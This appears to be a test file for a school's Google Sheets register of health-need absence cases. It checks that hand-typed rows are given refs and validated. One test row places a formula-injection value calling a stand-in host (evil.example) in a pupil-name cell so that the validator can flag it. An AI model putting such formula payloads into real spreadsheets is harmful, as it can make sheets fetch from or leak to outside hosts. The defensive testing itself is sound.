/** Cases typed straight into the Cases sheet are checked on the next run: accepted with a ref, or reported. */
import { openCase } from '../../../src/app/cases/openCase';
import { refreshRegister } from '../../../src/app/cases/refresh';
import { getSidebarState } from '../../../src/app/cases/viewCases';
import { ABSENCE_PERIODS, AUDIT_LOG, CASES } from '../../../src/domain/schema';
import { caseInput, createRegister, upnFor } from './harness';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

function typeRow(sheet: Sheet, cells: Record<string, unknown>): void {
  const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].map(String);
  const row = headers.map((h) => (h in cells ? cells[h] : ''));
  sheet.appendRow(row);
}

it('gives a hand-typed case a ref and a period, logs it as added by hand, and reports what is wrong with it', () => {
  const reg = createRegister('2027-06-28');
  openCase(reg.ctx(), caseInput({ upn: upnFor(2) }));
  reg.ws.endExecution();
  const cases = reg.ws.spreadsheet.getSheetByName('Cases') as unknown as Sheet;
  typeRow(cases, { Pupil: 'Dylan Jones', UPN: upnFor(9), 'First day of absence': new Date('2027-06-21T00:00:00Z'), 'Kind of health need': 'Injury or surgery' });
  typeRow(cases, { Pupil: '=IMPORTXML("http://evil.example")', UPN: 'A123', Status: 'Open', Arrangement: 'Tutoring', 'First day of absence': new Date('2027-06-21T00:00:00Z'), 'Expected return': new Date('2027-06-01T00:00:00Z') });
  typeRow(cases, { Pupil: 'Rohan Again', UPN: upnFor(2), Status: 'Open', Arrangement: 'Not yet arranged', 'First day of absence': new Date('2027-06-22T00:00:00Z') });
  reg.ws.endExecution();

  const state = getSidebarState(reg.ctx());
  expect(state.problems.some((p) => /has no Case ref yet/.test(p))).toBe(true);
  const result = refreshRegister(reg.ctx());
  reg.ws.endExecution();
  expect(result.adopted).toEqual(['HN-2027-0002', 'HN-2027-0003', 'HN-2027-0004']);
  expect(result.summary).toMatch(/Cases typed in by hand were given refs: HN-2027-0002, HN-2027-0003, HN-2027-0004/);

  const c = reg.ctx();
  const rows = c.services.tables.readAll(CASES).map((r) => r.values);
  expect(rows[1]).toMatchObject({ ref: 'HN-2027-0002', status: 'Open', arrangement: 'Not yet arranged', pupilName: 'Dylan Jones', daysThisPeriod: 6, problems: '' });
  expect(String(rows[2].problems)).toMatch(/looks like a formula/);
  expect(String(rows[2].problems)).toMatch(/A UPN has 13 characters/);
  expect(String(rows[2].problems)).toMatch(/The arrangement "Tutoring" is not one of the arrangements/);
  expect(String(rows[2].problems)).toMatch(/The expected return, Tue 1 Jun 2027, is before the first day of absence, Mon 21 Jun 2027/);
  // Sheets ran the formula when it was typed; the check reports it and leaves the person's cell as it was.
  expect(String(rows[2].problems)).toMatch(/the cell shows #NAME\?/);
  const headers = cases.getRange(1, 1, 1, cases.getLastColumn()).getValues()[0];
  expect(cases.getRange(4, headers.indexOf('Pupil') + 1).getFormula()).toBe('=IMPORTXML("http://evil.example")');
  expect(String(rows[3].problems)).toMatch(/Another case is open for this pupil \(HN-2027-0001\)/);
  expect(String(rows[0].problems)).toMatch(/Another case is open for this pupil \(HN-2027-0004\)/);
  expect(c.services.tables.readAll(ABSENCE_PERIODS).map((r) => r.values.caseRef)).toEqual(['HN-2027-0001', 'HN-2027-0002', 'HN-2027-0003', 'HN-2027-0004']);
  const audit = c.services.tables.readAll(AUDIT_LOG).map((r) => r.values).filter((v) => v.action === 'Case added by hand');
  expect(audit.map((a) => a.caseRef)).toEqual(['HN-2027-0002', 'HN-2027-0003', 'HN-2027-0004']);

  // A second check adopts nothing more and gives no ref twice.
  reg.ws.endExecution();
  expect(refreshRegister(reg.ctx()).adopted).toEqual([]);
  expect(openCase(reg.ctx(), caseInput({ upn: upnFor(5), pupilName: 'New Pupil' })).ref).toBe('HN-2027-0005');
});
